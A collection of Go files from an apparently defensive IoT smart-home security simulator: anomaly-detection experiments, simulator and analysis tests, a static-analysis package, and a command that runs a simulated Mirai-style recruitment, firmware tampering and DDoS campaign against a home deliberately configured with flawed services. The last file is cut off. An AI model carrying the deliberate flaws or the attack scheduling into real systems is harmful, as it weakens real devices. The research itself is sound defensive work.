	rng := env.Rand()

	train := e6Samples(rng, 60)
	test := e6Samples(rng, 60)

	kd, err := ml.NewRBFKernel("device", 1)
	if err != nil {
		panic(err)
	}
	kn, err := ml.NewRBFKernel("network", 1)
	if err != nil {
		panic(err)
	}
	ks, err := ml.NewSpectrumKernel(2)
	if err != nil {
		panic(err)
	}

	t := metrics.NewTable("", "Model", "Test accuracy", "Weights")
	single := map[string]ml.Kernel{"device-rbf": kd, "network-rbf": kn, "event-spectrum": ks}
	for _, name := range []string{"device-rbf", "network-rbf", "event-spectrum"} {
		m, err := ml.NewMKL(single[name])
		if err != nil {
			panic(err)
		}
		if err := m.Fit(train, 20); err != nil {
			panic(err)
		}
		acc := m.Accuracy(test)
		t.AddRow(name, fmt.Sprintf("%.3f", acc), "1.0")
		r.num("acc_"+name, acc)
	}
	mkl, err := ml.NewMKL(kd, kn, ks)
	if err != nil {
		panic(err)
	}
	if err := mkl.Fit(train, 20); err != nil {
		panic(err)
	}
	accMKL := mkl.Accuracy(test)
	t.AddRow("mkl-aligned", fmt.Sprintf("%.3f", accMKL), weightsStr(mkl.Weights()))
	r.num("acc_mkl", accMKL)

	// Graph community detection: two behaviour communities + one outlier.
	ids, samples := e6GraphPopulation(rng)
	g, err := ml.FromSimilarity(ids, samples, ks, 0.35)
	if err != nil {
		panic(err)
	}
	labels := g.LabelPropagation(50)
	comms := ml.Communities(labels)
	q := g.Modularity(labels)
	outliers := g.CommunityOutliers(labels, 2)

	purity := communityPurity(comms)
	r.num("modularity", q)
	r.num("purity", purity)
	r.num("communities", float64(len(comms)))

	r.Output = t.String() + fmt.Sprintf(
		"\nGraph learning: %d communities, modularity %.3f, purity %.3f, outliers %v\n",
		len(comms), q, purity, outliers)
	return r
}

func weightsStr(ws []float64) string {
	s := ""
	for i, w := range ws {
		if i > 0 {
			s += "/"
		}
		s += fmt.Sprintf("%.2f", w)
	}
	return s
}

// e6Samples builds the labelled mixed-layer dataset: malicious samples
// look anomalous in SOME layer but not all, so fusion wins.
func e6Samples(rng *rand.Rand, n int) []ml.Sample {
	out := make([]ml.Sample, 0, n)
	for i := 0; i < n; i++ {
		if i%2 == 0 { // benign
			out = append(out, ml.Sample{
				Device:  []float64{rng.Float64() * 0.3},
				Network: []float64{rng.Float64() * 0.3, rng.Float64() * 0.3},
				Events:  []string{"on", "off", "on", "dim", "off"},
				Label:   -1,
			})
			continue
		}
		s := ml.Sample{
			Device:  []float64{rng.Float64() * 0.3},
			Network: []float64{rng.Float64() * 0.3, rng.Float64() * 0.3},
			Events:  []string{"on", "off", "on", "dim", "off"},
			Label:   1,
		}
		// The attack shows up in exactly one randomly chosen layer.
		switch rng.Intn(3) {
		case 0:
			s.Device = []float64{0.8 + rng.Float64()*0.2}
		case 1:
			s.Network = []float64{0.8 + rng.Float64()*0.2, 0.8 + rng.Float64()*0.2}
		default:
			s.Events = []string{"scan", "scan", "beacon", "scan", "flood"}
		}
		out = append(out, s)
	}
	return out
}

// e6GraphPopulation builds homes running two distinct automation styles
// plus one infected outlier.
func e6GraphPopulation(rng *rand.Rand) ([]string, []ml.Sample) {
	var ids []string
	var samples []ml.Sample
	for i := 0; i < 6; i++ {
		ids = append(ids, fmt.Sprintf("homeA-%d", i))
		samples = append(samples, ml.Sample{Events: []string{"on", "off", "on", "off", "dim", "on", "off"}})
	}
	for i := 0; i < 6; i++ {
		ids = append(ids, fmt.Sprintf("homeB-%d", i))
		samples = append(samples, ml.Sample{Events: []string{"motion", "clear", "motion", "clear", "record", "motion", "clear"}})
	}
	ids = append(ids, "infected-1")
	samples = append(samples, ml.Sample{Events: []string{"scan", "beacon", "scan", "flood", "scan", "beacon", "scan"}})
	_ = rng
	return ids, samples
}

// communityPurity scores how well communities align with the homeA/homeB
// prefixes (the infected node may go anywhere).
func communityPurity(comms [][]string) float64 {
	total, pure := 0, 0
	for _, c := range comms {
		counts := map[byte]int{}
		for _, n := range c {
			counts[n[4]]++ // 'A' or 'B' (or 'c' for infected)
		}
		best := 0
		for _, v := range counts {
			if v > best {
				best = v
			}
		}
		pure += best
		total += len(c)
	}
	if total == 0 {
		return 0
	}
	return float64(pure) / float64(total)
}
