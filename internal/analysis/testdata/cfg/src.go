// Package cfgfix exercises every control-flow shape the CFG builder
// lowers; cfg_test.go pins the resulting graphs as golden dumps.
package cfgfix

import (
	"errors"
	"os"
)

func straight(a, b int) int {
	c := a + b
	c *= 2
	return c
}

func ifElse(x int) int {
	if x > 0 {
		return 1
	} else if x < 0 {
		return -1
	}
	return 0
}

func ifInit(m map[string]int) int {
	if v, ok := m["k"]; ok {
		return v
	}
	return 0
}

func forLoop(n int) int {
	s := 0
	for i := 0; i < n; i++ {
		if i%2 == 0 {
			continue
		}
		s += i
	}
	return s
}

func forever(ch chan int) {
	for {
		v := <-ch
		if v == 0 {
			break
		}
	}
}

func rangeLoop(xs []int) int {
	s := 0
	for _, x := range xs {
		s += x
	}
	return s
}

func labeled(grid [][]int) int {
outer:
	for i := range grid {
		for j := range grid[i] {
			if grid[i][j] < 0 {
				break outer
			}
			if j == 0 {
				continue outer
			}
		}
	}
	return 0
}

func switches(x int) string {
	switch {
	case x > 10:
		return "big"
	case x > 0:
		fallthrough
	case x == 0:
		return "small"
	}
	switch y := x * 2; y {
	case 4:
		return "four"
	default:
		return "other"
	}
}

func typeSwitch(v any) int {
	switch t := v.(type) {
	case int:
		return t
	case string:
		return len(t)
	}
	return 0
}

func selects(a, b chan int, done chan struct{}) int {
	select {
	case v := <-a:
		return v
	case b <- 1:
	case <-done:
		return -1
	}
	return 0
}

func deferred(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	if fi, err := f.Stat(); err != nil || fi.Size() == 0 {
		return errors.New("empty")
	}
	return nil
}

func panics(x int) int {
	if x < 0 {
		panic("negative")
	}
	if x == 0 {
		os.Exit(2)
	}
	return x
}

func gotos(n int) int {
	i := 0
loop:
	if i < n {
		i++
		goto loop
	}
	return i
}

func closures(xs []int) func() int {
	total := 0
	fn := func() int {
		for _, x := range xs {
			total += x
		}
		return total
	}
	return fn
}
