package sim

import (
	"testing"
	"time"
)

func TestScheduleOrdering(t *testing.T) {
	k := NewKernel(1)
	var got []int
	k.Schedule(30*time.Millisecond, "c", func() { got = append(got, 3) })
	k.Schedule(10*time.Millisecond, "a", func() { got = append(got, 1) })
	k.Schedule(20*time.Millisecond, "b", func() { got = append(got, 2) })
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	want := []int{1, 2, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("order = %v, want %v", got, want)
		}
	}
}

func TestTieBreakBySchedulingOrder(t *testing.T) {
	k := NewKernel(1)
	var got []int
	for i := 0; i < 10; i++ {
		i := i
		k.Schedule(5*time.Millisecond, "tie", func() { got = append(got, i) })
	}
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	for i := range got {
		if got[i] != i {
			t.Fatalf("tie order = %v, want ascending", got)
		}
	}
}

func TestClockAdvances(t *testing.T) {
	k := NewKernel(1)
	var at time.Duration
	k.Schedule(42*time.Millisecond, "probe", func() { at = k.Now() })
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if at != 42*time.Millisecond {
		t.Errorf("event saw Now()=%s, want 42ms", at)
	}
	if k.Now() != time.Second {
		t.Errorf("after Run, Now()=%s, want horizon 1s", k.Now())
	}
}

func TestRunStopsAtHorizon(t *testing.T) {
	k := NewKernel(1)
	fired := false
	k.Schedule(2*time.Second, "late", func() { fired = true })
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if fired {
		t.Error("event beyond horizon fired")
	}
	if k.Pending() != 1 {
		t.Errorf("Pending = %d, want 1", k.Pending())
	}
	if err := k.Run(3 * time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if !fired {
		t.Error("event did not fire on second Run")
	}
}

func TestCancel(t *testing.T) {
	k := NewKernel(1)
	fired := false
	e := k.Schedule(10*time.Millisecond, "x", func() { fired = true })
	e.Cancel()
	if !e.Canceled() {
		t.Error("Canceled() = false after Cancel")
	}
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if fired {
		t.Error("canceled event fired")
	}
}

func TestCancelZeroHandleSafe(t *testing.T) {
	var h Handle
	h.Cancel() // must not panic
	if h.Canceled() {
		t.Error("zero handle reports canceled")
	}
	if _, ok := h.At(); ok {
		t.Error("zero handle reports a scheduled time")
	}
}

func TestHandleStaleAfterDispatch(t *testing.T) {
	k := NewKernel(1)
	h := k.Schedule(time.Millisecond, "once", func() {})
	if _, ok := h.At(); !ok {
		t.Fatal("live handle At() not ok")
	}
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	// The event ran and its pool slot was recycled: the handle is stale.
	if _, ok := h.At(); ok {
		t.Error("stale handle At() ok after dispatch")
	}
	h.Cancel() // must not affect the slot's next occupant
	h2 := k.Schedule(time.Millisecond, "next", func() {})
	if h2.Canceled() {
		t.Error("stale Cancel leaked onto the recycled slot's new event")
	}
	if h.Canceled() {
		t.Error("stale handle reports canceled")
	}
}

func TestStopNow(t *testing.T) {
	k := NewKernel(1)
	var count int
	k.Schedule(1*time.Millisecond, "a", func() { count++; k.StopNow() })
	k.Schedule(2*time.Millisecond, "b", func() { count++ })
	err := k.Run(time.Second)
	if err != ErrStopped {
		t.Fatalf("Run err = %v, want ErrStopped", err)
	}
	if count != 1 {
		t.Errorf("executed %d events, want 1", count)
	}
}

func TestRunAllBound(t *testing.T) {
	k := NewKernel(1)
	var reschedule func()
	reschedule = func() { k.Schedule(time.Millisecond, "loop", reschedule) }
	reschedule()
	if err := k.RunAll(100); err == nil {
		t.Fatal("RunAll with runaway loop returned nil error")
	}
}

func TestRunAllClearsStop(t *testing.T) {
	// Regression: RunAll used to leave a prior StopNow in effect, so every
	// subsequent RunAll returned ErrStopped without executing anything.
	k := NewKernel(1)
	k.Schedule(time.Millisecond, "halt", func() { k.StopNow() })
	if err := k.RunAll(100); err != ErrStopped {
		t.Fatalf("first RunAll err = %v, want ErrStopped", err)
	}
	fired := false
	k.Schedule(time.Millisecond, "after", func() { fired = true })
	if err := k.RunAll(100); err != nil {
		t.Fatalf("second RunAll err = %v, want nil", err)
	}
	if !fired {
		t.Error("event did not fire: RunAll kept the stale stopped flag")
	}
}

func TestEventsInsideEvents(t *testing.T) {
	k := NewKernel(1)
	var got []string
	k.Schedule(10*time.Millisecond, "outer", func() {
		got = append(got, "outer")
		k.Schedule(5*time.Millisecond, "inner", func() { got = append(got, "inner") })
	})
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(got) != 2 || got[0] != "outer" || got[1] != "inner" {
		t.Errorf("got %v, want [outer inner]", got)
	}
}

func TestNegativeDelayClamped(t *testing.T) {
	k := NewKernel(1)
	k.Schedule(time.Millisecond, "advance", func() {
		e := k.Schedule(-5*time.Second, "past", func() {})
		if at, ok := e.At(); !ok || at != k.Now() {
			t.Errorf("negative delay scheduled at %s (ok=%v), want %s", at, ok, k.Now())
		}
	})
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
}

func TestDeterminismAcrossKernels(t *testing.T) {
	run := func() []int64 {
		k := NewKernel(99)
		var vals []int64
		k.Every(10*time.Millisecond, 5*time.Millisecond, "tick", func() {
			vals = append(vals, k.Rand().Int63n(1000), int64(k.Now()))
		})
		if err := k.Run(200 * time.Millisecond); err != nil {
			t.Fatalf("Run: %v", err)
		}
		return vals
	}
	a, b := run(), run()
	if len(a) == 0 {
		t.Fatal("no ticks fired")
	}
	if len(a) != len(b) {
		t.Fatalf("run lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("runs diverge at %d: %d vs %d", i, a[i], b[i])
		}
	}
}

func TestTickerStop(t *testing.T) {
	k := NewKernel(1)
	var ticker *Ticker
	n := 0
	ticker = k.Every(10*time.Millisecond, 0, "tick", func() {
		n++
		if n == 3 {
			ticker.Stop()
		}
	})
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if n != 3 {
		t.Errorf("ticker fired %d times, want 3", n)
	}
	if ticker.Fires() != 3 {
		t.Errorf("Fires() = %d, want 3", ticker.Fires())
	}
}

func TestTickerNoJitterPeriod(t *testing.T) {
	k := NewKernel(1)
	var times []time.Duration
	k.Every(25*time.Millisecond, 0, "tick", func() { times = append(times, k.Now()) })
	if err := k.Run(100 * time.Millisecond); err != nil {
		t.Fatalf("Run: %v", err)
	}
	want := []time.Duration{25 * time.Millisecond, 50 * time.Millisecond, 75 * time.Millisecond, 100 * time.Millisecond}
	if len(times) != len(want) {
		t.Fatalf("fired at %v, want %v", times, want)
	}
	for i := range want {
		if times[i] != want[i] {
			t.Fatalf("fired at %v, want %v", times, want)
		}
	}
}

func TestProcessedCount(t *testing.T) {
	k := NewKernel(1)
	for i := 0; i < 5; i++ {
		k.Schedule(time.Duration(i)*time.Millisecond, "e", func() {})
	}
	if err := k.Run(time.Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if k.Processed() != 5 {
		t.Errorf("Processed = %d, want 5", k.Processed())
	}
}
