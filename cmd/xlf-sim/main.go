// Command xlf-sim runs a simulated smart home under XLF protection through
// a scripted day — benign activity plus an attack campaign — and prints
// the protection report, the live architecture figures, and the NAC
// policy.
//
// Usage:
//
//	xlf-sim                 # protected home, default campaign
//	xlf-sim -unprotected    # baseline without XLF
//	xlf-sim -seed 7 -minutes 20
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"xlf"
	"xlf/internal/analytics"
	"xlf/internal/attack"
	"xlf/internal/service"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("xlf-sim", flag.ContinueOnError)
	var (
		seed        = fs.Int64("seed", 1, "deterministic seed")
		minutes     = fs.Int("minutes", 10, "simulated duration")
		unprotected = fs.Bool("unprotected", false, "run without XLF")
		quiet       = fs.Bool("quiet", false, "report only (skip figures)")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	sys, err := xlf.New(xlf.Options{
		Seed:              *seed,
		Flaws:             service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
		DisableProtection: *unprotected,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, "xlf-sim:", err)
		return 1
	}

	// Benign background.
	benign := []struct {
		at  time.Duration
		dev string
		ev  string
	}{
		{20 * time.Second, "bulb-1", "on"},
		{50 * time.Second, "thermo-1", "heat"},
		{90 * time.Second, "thermo-1", "target_reached"},
		{2 * time.Minute, "cam-1", "motion"},
		{2*time.Minute + 30*time.Second, "cam-1", "clear"},
		{4 * time.Minute, "bulb-1", "off"},
	}
	for _, e := range benign {
		e := e
		sys.Home.Kernel.Schedule(e.at, "user", func() { sys.Home.UserEvent(e.dev, e.ev) })
	}
	if sys.Protected() {
		sys.SetContext(analytics.Context{OutdoorTempF: 65, UserHome: true})
	}

	// Attack campaign.
	env := sys.Home.AttackEnv()
	sys.Home.Kernel.Schedule(60*time.Second, "mirai", func() {
		(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 15 * time.Second}).Execute(env)
	})
	sys.Home.Kernel.Schedule(3*time.Minute, "ota-tamper", func() {
		(&attack.FirmwareModulation{Target: "cam-1"}).Execute(env)
	})
	sys.Home.Kernel.Schedule(5*time.Minute, "ddos", func() {
		(&attack.DDoSFlood{Victim: "wan:victim", Rate: 80, Duration: 20 * time.Second}).Execute(env)
	})

	if err := sys.Home.Run(time.Duration(*minutes) * time.Minute); err != nil {
		fmt.Fprintln(os.Stderr, "xlf-sim:", err)
		return 1
	}

	fmt.Print(sys.Report())
	if sys.Protected() && !*quiet {
		fmt.Println()
		fmt.Println(sys.Arch.RenderFigure4())
		fmt.Println("NAC policy:")
		fmt.Print(sys.NAC.Describe())
	}
	return 0
}
