// Package analysis implements xlf-vet: the repo's own cross-layer static
// analysis. XLF's thesis is that security properties must be enforced
// across layers, not inside any single one; this package compiles the
// corresponding architectural rules — the layer import DAG, the
// determinism contract of the simulator, lock-copy hygiene and
// error-handling discipline in security-critical packages — into checkers
// that run over the parsed source (go/parser + go/ast only, no type
// information and no external dependencies).
//
// Each Analyzer inspects one parsed Package at a time and reports
// Findings; cmd/xlf-vet loads the module, runs every analyzer and exits
// non-zero when anything is found.
package analysis

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

// Finding is one diagnostic, printed as "file:line: [rule] message".
type Finding struct {
	Pos     token.Position `json:"-"`
	File    string         `json:"file"`
	Line    int            `json:"line"`
	Col     int            `json:"col,omitempty"`
	Rule    string         `json:"rule"`
	Message string         `json:"message"`
	// Fix, when non-nil, is a mechanical edit that resolves the finding;
	// xlf-vet -fix applies it.
	Fix *SuggestedFix `json:"fix,omitempty"`
}

// SuggestedFix is one byte-range replacement within the finding's file.
// Offsets index the file content as parsed; AddImport names an import
// path the replacement text requires.
type SuggestedFix struct {
	Start     int    `json:"start"`
	End       int    `json:"end"`
	NewText   string `json:"new_text"`
	AddImport string `json:"add_import,omitempty"`
}

func (f Finding) String() string {
	return fmt.Sprintf("%s:%d: [%s] %s", f.File, f.Line, f.Rule, f.Message)
}

// File is one parsed source file within a Package.
type File struct {
	Name string // path as given to the parser
	Test bool   // _test.go file
	AST  *ast.File
}

// Package is one parsed directory of Go source. Test files are included
// (lock hygiene applies to them too); analyzers that only reason about
// production code skip File.Test entries.
type Package struct {
	// ImportPath is the package's import path ("xlf/internal/sim").
	ImportPath string
	Dir        string
	Fset       *token.FileSet
	Files      []File
}

// Analyzer checks one package.
type Analyzer interface {
	// Name is the rule name used in diagnostics and -disable flags.
	Name() string
	Check(pkg *Package) []Finding
}

// ModuleAnalyzer is an Analyzer that needs the whole module before
// per-package Check calls — the taint engine computes cross-package
// function summaries this way. Prepare is idempotent: the first call
// wins, so a driver can prepare on the full module and then Check a
// filtered subset without losing cross-package context.
type ModuleAnalyzer interface {
	Analyzer
	Prepare(pkgs []*Package)
}

// Documented is optionally implemented by analyzers that carry a one-line
// rule description (surfaced as SARIF rule metadata).
type Documented interface {
	Doc() string
}

// Prepare runs every ModuleAnalyzer's Prepare step over the package set.
func Prepare(pkgs []*Package, analyzers []Analyzer) {
	for _, a := range analyzers {
		if m, ok := a.(ModuleAnalyzer); ok {
			m.Prepare(pkgs)
		}
	}
}

// finding builds a Finding at pos.
func (p *Package) finding(rule string, pos token.Pos, format string, args ...any) Finding {
	position := p.Fset.Position(pos)
	return Finding{
		Pos:     position,
		File:    position.Filename,
		Line:    position.Line,
		Col:     position.Column,
		Rule:    rule,
		Message: fmt.Sprintf(format, args...),
	}
}

// Run applies every analyzer to every package and returns the combined
// findings sorted by file, line, rule and message. Module-scoped
// analyzers are prepared over the same package set first (a no-op when
// the driver already prepared them on the full module).
func Run(pkgs []*Package, analyzers []Analyzer) []Finding {
	return RunParallel(pkgs, analyzers, 1)
}

// RunParallel is Run with the per-package Check calls fanned out over a
// worker pool. Analyzer state is frozen by Prepare before the fan-out
// (the oracle and taint summaries become read-only), so Check calls on
// distinct packages are safe concurrently. The output is sorted with
// SortFindings and therefore byte-identical at any worker count.
func RunParallel(pkgs []*Package, analyzers []Analyzer, workers int) []Finding {
	Prepare(pkgs, analyzers)
	if workers < 1 {
		workers = 1
	}
	if workers > len(pkgs) {
		workers = len(pkgs)
	}
	results := make([][]Finding, len(pkgs))
	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range jobs {
				results[i] = RunPackage(pkgs[i], analyzers)
			}
		}()
	}
	for i := range pkgs {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	var out []Finding
	for _, r := range results {
		out = append(out, r...)
	}
	SortFindings(out)
	return out
}

// RunPackage applies every analyzer to one package. Prepare must have
// run first; the result is sorted and self-contained, which is what the
// driver's per-package result cache stores.
func RunPackage(pkg *Package, analyzers []Analyzer) []Finding {
	var out []Finding
	for _, a := range analyzers {
		out = append(out, a.Check(pkg)...)
	}
	SortFindings(out)
	return out
}

// SortFindings orders findings by file, line, column, rule and message —
// a total order, so concurrent runs always print identically even when
// several rule families fire on the same line.
func SortFindings(out []Finding) {
	sort.Slice(out, func(i, j int) bool {
		if out[i].File != out[j].File {
			return out[i].File < out[j].File
		}
		if out[i].Line != out[j].Line {
			return out[i].Line < out[j].Line
		}
		if out[i].Col != out[j].Col {
			return out[i].Col < out[j].Col
		}
		if out[i].Rule != out[j].Rule {
			return out[i].Rule < out[j].Rule
		}
		return out[i].Message < out[j].Message
	})
}

// ModulePath reads the module path from root/go.mod.
func ModulePath(root string) (string, error) {
	data, err := os.ReadFile(filepath.Join(root, "go.mod"))
	if err != nil {
		return "", err
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "module "); ok {
			return strings.TrimSpace(rest), nil
		}
	}
	return "", fmt.Errorf("analysis: no module directive in %s/go.mod", root)
}

// LoadModule parses every package under the module root, skipping
// testdata, vendor and hidden directories. Import paths are derived from
// the module path in go.mod.
func LoadModule(root string) ([]*Package, error) {
	module, err := ModulePath(root)
	if err != nil {
		return nil, err
	}
	var pkgs []*Package
	err = filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		name := d.Name()
		if path != root && (name == "testdata" || name == "vendor" ||
			strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
			return filepath.SkipDir
		}
		rel, err := filepath.Rel(root, path)
		if err != nil {
			return err
		}
		importPath := module
		if rel != "." {
			importPath = module + "/" + filepath.ToSlash(rel)
		}
		pkg, err := LoadDir(path, importPath)
		if err != nil {
			return err
		}
		if pkg != nil {
			pkgs = append(pkgs, pkg)
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return pkgs, nil
}

// LoadDir parses the .go files directly inside dir as one Package with the
// given import path. It returns (nil, nil) when dir holds no Go files.
func LoadDir(dir, importPath string) (*Package, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	pkg := &Package{ImportPath: importPath, Dir: dir, Fset: token.NewFileSet()}
	for _, e := range entries {
		if e.IsDir() || !strings.HasSuffix(e.Name(), ".go") {
			continue
		}
		path := filepath.Join(dir, e.Name())
		f, err := parser.ParseFile(pkg.Fset, path, nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, err
		}
		pkg.Files = append(pkg.Files, File{
			Name: path,
			Test: strings.HasSuffix(e.Name(), "_test.go"),
			AST:  f,
		})
	}
	if len(pkg.Files) == 0 {
		return nil, nil
	}
	return pkg, nil
}

// importName returns the identifier under which file imports path, and
// whether it imports it at all. An unnamed import resolves to the final
// path element (correct for the stdlib packages the analyzers care
// about).
func importName(f *ast.File, path string) (string, bool) {
	for _, imp := range f.Imports {
		p := strings.Trim(imp.Path.Value, `"`)
		if p != path {
			continue
		}
		if imp.Name != nil {
			if imp.Name.Name == "_" || imp.Name.Name == "." {
				return "", false
			}
			return imp.Name.Name, true
		}
		return p[strings.LastIndex(p, "/")+1:], true
	}
	return "", false
}

// importMap maps every local import name of f to its import path
// (skipping blank and dot imports).
func importMap(f *ast.File) map[string]string {
	imports := make(map[string]string)
	for _, spec := range f.Imports {
		path := strings.Trim(spec.Path.Value, `"`)
		name := path[strings.LastIndex(path, "/")+1:]
		if spec.Name != nil {
			name = spec.Name.Name
		}
		if name != "_" && name != "." {
			imports[name] = path
		}
	}
	return imports
}

// allowedLines collects source lines covered by comments containing
// marker (e.g. "xlf:allow-wallclock"): the comment's own lines plus the
// line immediately after, so both end-of-line and line-above annotations
// work. A marker in a function's doc comment allows the whole function.
func allowedLines(fset *token.FileSet, f *ast.File, marker string) map[int]bool {
	allowed := make(map[int]bool)
	for _, cg := range f.Comments {
		for _, c := range cg.List {
			if !strings.Contains(c.Text, marker) {
				continue
			}
			start := fset.Position(c.Pos()).Line
			end := fset.Position(c.End()).Line
			for l := start; l <= end+1; l++ {
				allowed[l] = true
			}
		}
	}
	for _, decl := range f.Decls {
		fd, ok := decl.(*ast.FuncDecl)
		if !ok || fd.Doc == nil {
			continue
		}
		// Scan the raw comment list: //xlf:... is a directive, which
		// (*CommentGroup).Text() strips.
		marked := false
		for _, c := range fd.Doc.List {
			if strings.Contains(c.Text, marker) {
				marked = true
				break
			}
		}
		if !marked {
			continue
		}
		start := fset.Position(fd.Pos()).Line
		end := fset.Position(fd.End()).Line
		for l := start; l <= end; l++ {
			allowed[l] = true
		}
	}
	return allowed
}
