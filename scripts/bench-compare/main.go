// Command bench-compare diffs two BENCH_*.json artifact sets produced by
// cmd/xlf-bench -json and reports regressions: experiments that vanished,
// headline numbers that moved beyond tolerance, rendered output that
// changed under a deterministic clock, and wall-clock slowdowns. CI runs
// it as a non-blocking regression report; locally it is the review tool
// for any PR that claims a perf win.
//
// Usage:
//
//	bench-compare -base out/main -new out/branch
//	bench-compare -base a -new b -tolerance 0.05 -wall-tolerance 0.5
//
// Exit status: 0 no regressions, 1 regressions found, 2 usage error.
package main

import (
	"flag"
	"fmt"
	"io"
	"math"
	"os"
	"sort"
	"strings"

	"xlf/internal/exp"
	"xlf/internal/metrics"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout))
}

func run(args []string, w io.Writer) int {
	fs := flag.NewFlagSet("bench-compare", flag.ContinueOnError)
	var (
		baseDir = fs.String("base", "", "baseline artifact directory")
		newDir  = fs.String("new", "", "candidate artifact directory")
		numTol  = fs.Float64("tolerance", 0.01, "relative tolerance for headline-number drift")
		wallTol = fs.Float64("wall-tolerance", 0.30, "relative tolerance for wall-clock slowdown")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *baseDir == "" || *newDir == "" {
		fmt.Fprintln(os.Stderr, "bench-compare: both -base and -new are required")
		fs.Usage()
		return 2
	}

	base, baseIDs, err := exp.ReadArtifactDir(*baseDir)
	if err != nil {
		fmt.Fprintln(os.Stderr, "bench-compare:", err)
		return 2
	}
	cand, _, err := exp.ReadArtifactDir(*newDir)
	if err != nil {
		fmt.Fprintln(os.Stderr, "bench-compare:", err)
		return 2
	}
	if len(base) == 0 {
		fmt.Fprintf(os.Stderr, "bench-compare: no BENCH_*.json artifacts in %s\n", *baseDir)
		return 2
	}

	var regressions, notes []string
	t := metrics.NewTable("", "Exp", "Wall base", "Wall new", "Ratio", "Numbers", "Output")
	for _, id := range baseIDs {
		b := base[id]
		n, ok := cand[id]
		if !ok {
			regressions = append(regressions, fmt.Sprintf("%s: missing from %s", id, *newDir))
			t.AddRow(id, wallStr(b), "-", "-", "-", "MISSING")
			continue
		}
		drifted := numberDrift(b, n, *numTol, &regressions)
		outCell := outputCell(b, n, &regressions, &notes)
		ratio, ratioCell := wallRatio(b, n)
		if ratio > 1+*wallTol {
			regressions = append(regressions, fmt.Sprintf("%s: wall time %.2fx baseline (%s -> %s)",
				id, ratio, wallStr(b), wallStr(n)))
		}
		numCell := "ok"
		if drifted > 0 {
			numCell = fmt.Sprintf("%d drifted", drifted)
		}
		t.AddRow(id, wallStr(b), wallStr(n), ratioCell, numCell, outCell)
	}
	var added []string
	for id := range cand {
		if _, ok := base[id]; !ok {
			added = append(added, id)
		}
	}
	sort.Strings(added)
	for _, id := range added {
		notes = append(notes, fmt.Sprintf("%s: new experiment (no baseline)", id))
	}

	fmt.Fprint(w, t.String())
	for _, n := range notes {
		fmt.Fprintln(w, "note:", n)
	}
	if len(regressions) == 0 {
		fmt.Fprintln(w, "bench-compare: no regressions")
		return 0
	}
	fmt.Fprintf(w, "bench-compare: %d regression(s)\n", len(regressions))
	for _, r := range regressions {
		fmt.Fprintln(w, "REGRESSION:", r)
	}
	return 1
}

// numberDrift flags headline numbers that moved beyond tol or vanished,
// appending to regressions; it returns how many drifted. Keys under the
// "telemetry." prefix are excluded: those numbers exist only when the run
// had -telemetry on, so their presence tracks a flag, not a regression.
func numberDrift(b, n *exp.Artifact, tol float64, regressions *[]string) int {
	keys := make([]string, 0, len(b.Numbers))
	for k := range b.Numbers {
		if strings.HasPrefix(k, "telemetry.") {
			continue
		}
		keys = append(keys, k)
	}
	sort.Strings(keys)
	drifted := 0
	for _, k := range keys {
		bv := b.Numbers[k]
		nv, ok := n.Numbers[k]
		if !ok {
			drifted++
			*regressions = append(*regressions, fmt.Sprintf("%s: number %q missing", b.ID, k))
			continue
		}
		if relDiff(bv, nv) > tol {
			drifted++
			*regressions = append(*regressions, fmt.Sprintf("%s: %s drifted %v -> %v", b.ID, k, bv, nv))
		}
	}
	return drifted
}

// outputCell scores the rendered-output hash. Under a step clock the hash
// is part of the reproduction contract, so a change is a regression; under
// a wall clock the output embeds measured throughput and a change is only
// a note.
func outputCell(b, n *exp.Artifact, regressions, notes *[]string) string {
	if b.OutputSHA256 == n.OutputSHA256 {
		return "identical"
	}
	if b.Clock == exp.ClockStep && n.Clock == exp.ClockStep {
		*regressions = append(*regressions, fmt.Sprintf("%s: step-clock output hash changed", b.ID))
		return "CHANGED"
	}
	*notes = append(*notes, fmt.Sprintf("%s: output differs (wall-clock run; expected)", b.ID))
	return "differs"
}

// wallRatio returns new/base wall time and its rendered cell.
func wallRatio(b, n *exp.Artifact) (float64, string) {
	if b.Telemetry == nil || n.Telemetry == nil || b.Telemetry.WallNS <= 0 {
		return 0, "-"
	}
	r := float64(n.Telemetry.WallNS) / float64(b.Telemetry.WallNS)
